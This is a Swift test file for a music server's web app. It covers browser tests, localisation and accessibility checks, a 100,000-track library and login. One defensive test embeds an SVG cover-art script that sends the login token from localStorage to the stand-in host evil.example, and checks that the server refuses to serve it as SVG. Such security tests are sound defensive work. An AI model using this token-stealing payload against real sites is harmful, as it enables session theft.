import Foundation
import Testing
import TuttiCore
import TuttiControlKit
import TuttiDaemon
import TuttiWebApp
import TuttiFollower
import TuttiLibrary
import TuttiNet
import TuttiTestSupport

/// The web app in a real browser: headless Chromium driven by Selenium
/// (Tests/Web/webapp_test.py) against a real leader with a library and two
/// speakers on file DACs, with mpc making changes the page must show.
/// TUTTI_SCREENSHOTS=DIR keeps phone-size screenshots of the main screens.
@Suite(.serialized) struct WebAppTests {
    static let repository = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent().path

    /// Tagged 10-minute MP3s (8 kHz mono: lame takes well under a second each), two albums with cover art,
    /// two genres (Ambient, Jazz).
    static func makeMusic(_ music: String, dir: String) throws {
        let source = dir + "/source.wav"
        writeFile(source, wavImage((0..<8_000 * 600).map { Int16(($0 % 40) * 100 - 2_000) }, rate: 8_000, channels: 1))
        // A small PNG cover (any valid image does).
        let cover = dir + "/cover.png"
        try writePNG(to: cover)
        let songs = [("Morning Light", "Aurora Lane", "Dawn", "1", "Aurora Lane/Dawn/01.mp3"),
                     ("Evening Tide", "Aurora Lane", "Dawn", "2", "Aurora Lane/Dawn/02.mp3"),
                     ("Northern Sky", "Aurora Lane", "Dusk", "1", "Aurora Lane/Dusk/01.mp3"),
                     ("Kitchen Blues", "Beta Crew", "Bee Sides", "1", "Beta Crew/01.mp3"),
                     ("Hallway Waltz", "Beta Crew", "Bee Sides", "2", "Beta Crew/02.mp3")]
        for (title, artist, album, track, path) in songs {
            try FileManager.default.createDirectory(atPath: music + "/" + (path as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
            var args = ["--quiet", "-b", "16", "--tt", title, "--ta", artist, "--tl", album, "--tn", track, "--ty", "2021",
                        "--tg", artist == "Beta Crew" ? "Jazz" : "Ambient"]
            if album != "Bee Sides" { args += ["--ti", cover] }
            let r = try runProgram("/usr/bin/lame", args + [source, music + "/" + path])
            #expect(r.status == 0, "lame: \(r.err)")
        }
    }

    @Test func thePageDrivesTheLeaderAndShowsEveryChange() throws {
        for tool in ["/usr/bin/chromium", "/usr/bin/chromedriver", "/usr/bin/mpc", "/usr/bin/lame"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run scripts/setup.sh")
        }
        let dir = makeTemporaryDirectory()
        let music = dir + "/music"
        try Self.makeMusic(music, dir: dir)
        let leader = try startLeader(files: []) { c in
            c.control = Endpoint(host: "127.0.0.1", port: 0)
            c.mpd = Endpoint(host: "127.0.0.1", port: 0)
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: Self.repository + "/web")
            c.musicDirectory = music
            c.databasePath = dir + "/db/library.db"
        }
        defer { leader.stop() }
        #expect(waitUntil(timeout: 20) { (try? leader.library?.trackCount()) == 5 }, "library scan")
        let kitchen = try startFollower(leader: leader.endpoint, name: "kitchen", output: .file(path: dir + "/kitchen.raw", ppm: 0, delayMilliseconds: 0))
        let living = try startFollower(leader: leader.endpoint, name: "living", output: .file(path: dir + "/living.raw", ppm: 0, delayMilliseconds: 0))
        defer { kitchen.stop(); living.stop() }
        #expect(waitUntil(timeout: 10) { leader.followerNames == ["kitchen", "living"] }, "rooms joined")
        let web = try #require(leader.webEndpoint), control = try #require(leader.controlEndpoint), mpd = try #require(leader.mpdEndpoint)
        var args = [Self.repository + "/Tests/Web/webapp_test.py", "--url", "http://127.0.0.1:\(web.port)",
                    "--control-port", String(control.port), "--mpd-port", String(mpd.port), "--room", "kitchen", "--query", "aurora"]
        if let shots = ProcessInfo.processInfo.environment["TUTTI_SCREENSHOTS"] { args += ["--screenshots", shots] }
        let r = try runProgram("/usr/bin/python3", args, mergeErrors: true, timeout: 240)
        print(r.out)
        #expect(r.status == 0, "the browser test failed:\n\(r.out)")
        #expect(r.out.contains("ok"), "\(r.out)")
    }

    /// The page in Korean (Chromium's --lang=ko), the leader's errors in it,
    /// focus after dialogs, queue moves and route changes, volume on Now
    /// playing, and axe-core in both languages (Tests/Web/i18n_test.py).
    @Test func thePageSpeaksKoreanKeepsFocusAndPassesAxe() throws {
        for tool in ["/usr/bin/chromium", "/usr/bin/chromedriver", "/usr/bin/lame"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run scripts/setup.sh")
        }
        let axe = try runProgram("/usr/bin/python3", ["-c", "import axe_selenium_python"], mergeErrors: true)
        try #require(axe.status == 0, "axe-selenium-python is missing for /usr/bin/python3: run scripts/setup.sh")
        let dir = makeTemporaryDirectory()
        let music = dir + "/music"
        try Self.makeMusic(music, dir: dir)
        let leader = try startLeader(files: []) { c in
            c.control = Endpoint(host: "127.0.0.1", port: 0)
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: Self.repository + "/web")
            c.musicDirectory = music
            c.databasePath = dir + "/db/library.db"
        }
        defer { leader.stop() }
        #expect(waitUntil(timeout: 20) { (try? leader.library?.trackCount()) == 5 }, "library scan")
        let kitchen = try startFollower(leader: leader.endpoint, name: "kitchen", output: .file(path: dir + "/kitchen.raw", ppm: 0, delayMilliseconds: 0))
        defer { kitchen.stop() }
        #expect(waitUntil(timeout: 10) { leader.followerNames == ["kitchen"] }, "the room joined")
        let web = try #require(leader.webEndpoint), control = try #require(leader.controlEndpoint)
        var args = [Self.repository + "/Tests/Web/i18n_test.py", "--url", "http://127.0.0.1:\(web.port)",
                    "--control-port", String(control.port), "--room", "kitchen", "--query", "aurora"]
        if let shots = ProcessInfo.processInfo.environment["TUTTI_SCREENSHOTS"] { args += ["--screenshots", shots] }
        let r = try runProgram("/usr/bin/python3", args, mergeErrors: true, timeout: 300)
        print(r.out)
        #expect(r.status == 0 && r.out.contains("all checks passed"), "the language and accessibility test failed:\n\(r.out)")
    }

    /// The screens of issue 32's "screens people still miss" (Tests/Web/screens_test.py):
    /// a track added to an existing playlist from search, its entries moved and
    /// removed; ±15 s on Now playing; the now-playing mark in lists; genres →
    /// albums → tracks; a network track saved for offline (cache.add); a room
    /// moved into a group and back with the arrow keys on its picker; all by
    /// keyboard alone where it counts, and axe-core on each new screen in both themes.
    @Test func theScreensPeopleMissWork() throws {
        for tool in ["/usr/bin/chromium", "/usr/bin/chromedriver", "/usr/bin/lame"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run scripts/setup.sh")
        }
        let axe = try runProgram("/usr/bin/python3", ["-c", "import axe_selenium_python"], mergeErrors: true)
        try #require(axe.status == 0, "axe-selenium-python is missing for /usr/bin/python3: run scripts/setup.sh")
        let dir = makeTemporaryDirectory()
        let music = dir + "/music"
        try Self.makeMusic(music, dir: dir)
        // A network track to save for offline: one of the MP3s on a local HTTP server.
        try FileManager.default.createDirectory(atPath: dir + "/www", withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: music + "/Beta Crew/01.mp3", toPath: dir + "/www/episode.mp3")
        let server = try LocalFileServer(folder: dir + "/www", log: dir + "/http.log")
        defer { server.stop() }
        let leader = try startLeader(files: []) { c in
            c.control = Endpoint(host: "127.0.0.1", port: 0)
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: Self.repository + "/web")
            c.musicDirectory = music
            c.databasePath = dir + "/db/library.db"
            c.network.destinations = StreamDestinationPolicy(allowsLocal: true) // the stream's server is this machine
        }
        defer { leader.stop() }
        #expect(waitUntil(timeout: 20) { (try? leader.library?.trackCount()) == 5 }, "library scan")
        let kitchen = try startFollower(leader: leader.endpoint, name: "kitchen", output: .file(path: dir + "/kitchen.raw", ppm: 0, delayMilliseconds: 0))
        defer { kitchen.stop() }
        #expect(waitUntil(timeout: 10) { leader.followerNames == ["kitchen"] }, "the room joined")
        let web = try #require(leader.webEndpoint), control = try #require(leader.controlEndpoint)
        var args = [Self.repository + "/Tests/Web/screens_test.py", "--url", "http://127.0.0.1:\(web.port)",
                    "--control-port", String(control.port), "--stream", server.url("/episode.mp3")]
        if let shots = ProcessInfo.processInfo.environment["TUTTI_SCREENSHOTS"] { args += ["--screenshots", shots] }
        let r = try runProgram("/usr/bin/python3", args, mergeErrors: true, timeout: 300)
        print(r.out)
        #expect(r.status == 0 && r.out.contains("all checks passed"), "the screens test failed:\n\(r.out)")
    }

    /// 100,000 tracks (one tiny MP3 behind 100,000 ID3 tags, loaded by the
    /// scan's bulk load): a one-letter prefix search scrolls through every
    /// result in a list that keeps only its visible rows in the page
    /// (Tests/Web/biglist_test.py, which also prints frame times while scrolling).
    @Test func aOneLetterSearchInA100000TrackLibraryScrollsToItsEnd() throws {
        for tool in ["/usr/bin/chromium", "/usr/bin/chromedriver", "/usr/bin/lame"] {
            try #require(FileManager.default.isExecutableFile(atPath: tool), "\(tool) is missing: run scripts/setup.sh")
        }
        let dir = makeTemporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) } // 100,000 files: about 400 MB of blocks
        let music = dir + "/music"
        try Self.makeBigLibrary(music, dir: dir, tracks: 100_000)
        let leader = try startLeader(files: []) { c in
            c.control = Endpoint(host: "127.0.0.1", port: 0)
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: Self.repository + "/web")
            c.musicDirectory = music
            c.databasePath = dir + "/db/library.db"
        }
        defer { leader.stop() }
        let library = try #require(leader.library)
        // The scan's end, not its rows: the word index is built last.
        #expect(waitUntil(timeout: 600) { (try? library.trackCount()) == 100_000 && !library.isScanning }, "library scan of 100,000 files")
        let web = try #require(leader.webEndpoint), control = try #require(leader.controlEndpoint)
        let r = try runProgram("/usr/bin/python3", [Self.repository + "/Tests/Web/biglist_test.py", "--url", "http://127.0.0.1:\(web.port)",
                                                    "--control-port", String(control.port), "--query", "q"], mergeErrors: true, timeout: 600)
        print(r.out)
        #expect(r.status == 0 && r.out.contains("all checks passed"), "the long-list test failed:\n\(r.out)")
    }

    /// `tracks` tagged MP3s: one 0.1 s MP3 from lame, each file its own ID3v2
    /// tag in front of it (as bench/library's corpus, but tiny). Titles and
    /// albums are two words of a 60-word list in which only "quiet" begins
    /// with q, so a search for "q" finds a few thousand tracks.
    static func makeBigLibrary(_ music: String, dir: String, tracks: Int) throws {
        writeFile(dir + "/blip.wav", wavImage((0..<800).map { Int16(($0 % 40) * 100 - 2_000) }, rate: 8_000, channels: 1))
        let encoded = try runProgram("/usr/bin/lame", ["--quiet", "-b", "8", dir + "/blip.wav", dir + "/blip.mp3"])
        #expect(encoded.status == 0, "lame: \(encoded.err)")
        let audio = try Array(Data(contentsOf: URL(fileURLWithPath: dir + "/blip.mp3")))
        let words = ["amber", "bright", "cedar", "dawn", "ember", "falling", "garden", "harbor", "island", "jade", "kite", "lantern",
                     "meadow", "night", "ocean", "paper", "quiet", "river", "silver", "thunder", "under", "velvet", "winter", "yellow",
                     "zephyr", "autumn", "blue", "cloud", "desert", "echo", "forest", "golden", "hollow", "iron", "jasmine", "kind",
                     "light", "moon", "north", "orbit", "pine", "rain", "shadow", "tide", "umber", "violet", "wild", "young", "zero",
                     "arrow", "bridge", "crystal", "dream", "east", "fire", "glass", "heart", "ivory", "juniper", "lake"]
        let firsts = ["Anna", "Ben", "Clara", "David", "Elena", "Frank", "Greta", "Hugo", "Ines", "Jonas", "Karin", "Leo", "Mina", "Nils"]
        let lasts = ["Berg", "Costa", "Dahl", "Evans", "Fischer", "Grant", "Hale", "Ito", "Jensen", "Kim", "Lund", "Moreau", "Novak", "Olsen", "Park"]
        let genres = ["Rock", "Pop", "Jazz", "Electronic", "Folk", "Classical", "Hip-Hop", "Ambient", "Soul", "Metal", "K-Pop", "Blues"]
        var seed: UInt64 = 0x7475_7474_69 // a fixed library: the same every run
        func next(_ n: Int) -> Int {
            seed = seed &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
            return Int((seed >> 33) % UInt64(n))
        }
        let perAlbum = 50
        for albumIndex in 0..<(tracks + perAlbum - 1) / perAlbum {
            let artist = firsts[next(firsts.count)] + " " + lasts[next(lasts.count)] + " \(albumIndex % 97)"
            let album = words[next(words.count)].capitalized + " " + words[next(words.count)]
            let genre = genres[next(genres.count)]
            let folder = music + "/\(albumIndex / 100)/\(albumIndex)"
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
            for n in 0..<min(perAlbum, tracks - albumIndex * perAlbum) {
                let title = words[next(words.count)].capitalized + " " + words[next(words.count)]
                let tag = ID3v2Writer.tag(version: 4, frames: [.text("TIT2", title), .text("TPE1", artist), .text("TALB", album),
                                                                .text("TCON", genre), .text("TRCK", String(n + 1))])
                guard FileManager.default.createFile(atPath: folder + "/\(n + 1).mp3", contents: Data(tag + audio)) else {
                    throw CommandFailed(description: "could not write \(folder)/\(n + 1).mp3")
                }
            }
        }
    }

    @Test func theWebAppAsksForThePasswordOnceAndKeepsTheToken() throws {
        try #require(FileManager.default.isExecutableFile(atPath: "/usr/bin/chromedriver"), "chromedriver is missing: run scripts/setup.sh")
        let password = "living-room-7"
        let dir = makeTemporaryDirectory()
        writeFile(dir + "/t.wav", wavImage(quantize(TestSignal.sine(frequency: 300, seconds: 60, amplitude: 0.2))))
        let leader = try startLeader(files: [dir + "/t.wav"]) { c in
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: Self.repository + "/web")
            c.password = password
            c.passwordOnLoopback = true // the browser runs here: make it a stranger
        }
        defer { leader.stop() }
        let web = try #require(leader.webEndpoint)
        let r = try runProgram("/usr/bin/python3", [Self.repository + "/Tests/Web/login_test.py", "--url", "http://127.0.0.1:\(web.port)",
                                                    "--password", password], mergeErrors: true, timeout: 120)
        print(r.out)
        #expect(r.status == 0 && r.out.contains("all checks passed"), "the login test failed:\n\(r.out)")
    }
}

/// Cover art and the headers of every web response (issue 26, finding 1):
/// a cover whose tag declares `image/svg+xml` and holds a script is a file
/// anyone can drop in the music folder; served as SVG it would run on the
/// web app's origin and could read the login token the phone keeps.
@Suite(.serialized) struct WebArtTests {
    @Test func aCoverIsServedOnlyAsTheImageItsBytesAreAndNeverAsAPage() throws {
        try #require(FileManager.default.isExecutableFile(atPath: "/usr/bin/lame"), "lame is missing: run scripts/setup.sh")
        let dir = makeTemporaryDirectory()
        let music = dir + "/music"
        try FileManager.default.createDirectory(atPath: music, withIntermediateDirectories: true)
        writeFile(dir + "/tone.wav", wavImage((0..<8_000).map { Int16(($0 % 40) * 100 - 2_000) }, rate: 8_000, channels: 1))
        let encoded = try runProgram("/usr/bin/lame", ["--quiet", "-b", "16", dir + "/tone.wav", dir + "/plain.mp3"])
        #expect(encoded.status == 0, "\(encoded.err)")
        let audio = try Array(Data(contentsOf: URL(fileURLWithPath: dir + "/plain.mp3")))
        let svg = Array(#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?"+localStorage.getItem("tutti.token"))</script></svg>"#.utf8)
        let png: [UInt8] = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + [UInt8](repeating: 7, count: 56)
        writeFile(music + "/svg.mp3", ID3v2Writer.tag(version: 3, frames: [.text("TIT2", "Scripted"), .frontCover(mime: "image/svg+xml", bytes: svg)]) + audio)
        // Declared as HTML, but the bytes are a PNG: it is served as what it is.
        writeFile(music + "/png.mp3", ID3v2Writer.tag(version: 3, frames: [.text("TIT2", "Plain"), .frontCover(mime: "text/html", bytes: png)]) + audio)
        let leader = try startLeader(files: []) { c in
            c.web = WebOptions(endpoint: Endpoint(host: "127.0.0.1", port: 0), root: WebAppTests.repository + "/web")
            c.mpd = Endpoint(host: "127.0.0.1", port: 0)
            c.musicDirectory = music
            c.databasePath = dir + "/db/library.db"
        }
        defer { leader.stop() }
        let library = try #require(leader.library)
        #expect(waitUntil(timeout: 20) { (try? library.trackCount()) == 2 }, "library scan")
        let svgHash = try #require(try library.track(atPath: music + "/svg.mp3")?.coverHash, "the SVG cover was kept by the scan")
        let pngHash = try #require(try library.track(atPath: music + "/png.mp3")?.coverHash)
        let port = try #require(leader.webEndpoint).port

        let scripted = httpRequest(port: port, "GET", "/art/\(svgHash)")
        #expect(scripted.hasPrefix("HTTP/1.1 415"), "\(scripted.prefix(300))")
        #expect(!scripted.contains("<script>") && !(headerValue(scripted, "Content-Type") ?? "").contains("svg"), "\(scripted.prefix(300))")
        #expect(headerValue(scripted, "X-Content-Type-Options") == "nosniff")

        let image = httpRequest(port: port, "GET", "/art/\(pngHash)")
        #expect(image.hasPrefix("HTTP/1.1 200"), "\(image.prefix(300))")
        #expect(headerValue(image, "Content-Type") == "image/png", "the type from the bytes, not the tag's text/html")
        #expect(headerValue(image, "X-Content-Type-Options") == "nosniff")
        let policy = headerValue(image, "Content-Security-Policy") ?? ""
        #expect(policy.contains("sandbox") && policy.contains("default-src 'none'"), "CSP: \(policy)")
        #expect(headerValue(image, "Content-Length") == String(png.count))

        // MPD's readpicture still gives the bytes, but its type is the bytes' own, never the tag's.
        let mpd = try #require(leader.mpdEndpoint).port
        let svgPicture = exchange(port: mpd, Array("readpicture svg.mp3 0\nclose\n".utf8))
        #expect(svgPicture.contains("size: \(svg.count)") && !svgPicture.contains("type:"), "\(svgPicture.prefix(200))")
        let pngPicture = exchange(port: mpd, Array("readpicture png.mp3 0\nclose\n".utf8))
        #expect(pngPicture.contains("type: image/png"), "\(pngPicture.prefix(200))")

        // Every response says nosniff: a page, a missing file, a refused method.
        for (method, path) in [("GET", "/"), ("GET", "/no/such/file"), ("PUT", "/"), ("GET", "/art/zz")] {
            let answer = httpRequest(port: port, method, path)
            #expect(headerValue(answer, "X-Content-Type-Options") == "nosniff", "\(method) \(path): \(answer.prefix(200))")
        }
    }
}
